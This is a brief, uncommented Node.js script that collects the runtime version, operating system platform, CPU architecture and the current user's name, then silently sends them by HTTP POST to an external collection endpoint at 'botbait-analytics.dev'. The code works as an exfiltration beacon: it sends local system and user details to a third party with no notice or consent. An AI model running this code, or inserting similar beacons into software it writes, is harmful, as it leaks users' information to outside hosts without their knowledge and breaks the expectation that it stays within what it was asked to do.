var http = require("http");
var data = {
    version: process.version,
    platform: process.platform,
    arch: process.arch,
    user: process.env.USER,
};

var payload = JSON.stringify(data);

var options = { host: "botbait-analytics.dev", port: 80, path: "/collect", method: "POST" };


var req = http.request(options, function (res) {
    res.on("data", function () {});
});
req.write(payload); req.end();
